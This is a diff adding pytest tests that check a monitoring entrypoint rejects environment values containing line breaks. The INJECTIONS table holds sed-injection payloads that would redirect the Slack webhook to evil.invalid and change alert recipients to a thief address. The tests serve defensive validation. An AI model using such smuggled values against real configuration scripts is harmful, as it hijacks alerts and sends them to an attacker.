@@ -156,6 +156,26 @@ def test_the_entrypoint_rejects_values_that_could_change_the_configuration(tmp_p
     assert result.returncode == 2 and name in result.stderr and "args=" not in result.stdout
 
 
+# grep matches line by line: with a line break, one line can match the pattern while the others
+# reach sed as commands of their own (here: the Slack webhook redirected, the recipients changed).
+INJECTIONS = {
+    "ALERT_EMAIL_TO": "oncall@example.com|g\ns|api_url_file: .*|api_url: https://evil.invalid/x|\n9999a@b.c",
+    "SMTP_USERNAME": "apikey|g\ns|to: .*|to: 'thief@evil.invalid'|\n9999a@b.c",
+    "SMTP_HOST": "smtp.example.com\n",
+    "GRAFANA_URL": "https://grafana.example.com\nhttps://other.example.com",
+    "SMTP_PORT": "587\n",
+}
+
+
+@pytest.mark.parametrize("name", INJECTIONS)
+def test_the_entrypoint_refuses_values_with_a_line_break(tmp_path, name):
+    result = run_entrypoint(tmp_path, **{**GOOD, name: INJECTIONS[name]})
+    assert result.returncode == 2 and "args=" not in result.stdout, result.stdout + result.stderr
+    assert name in result.stderr
+    rendered = tmp_path / "runtime" / "alertmanager.yml"
+    assert not rendered.exists() or "evil.invalid" not in rendered.read_text()
+
+
 def test_secrets_from_variables_land_in_private_files_and_leave_the_environment(tmp_path):
     result = run_entrypoint(tmp_path, **GOOD)
     assert result.returncode == 0, result.stderr
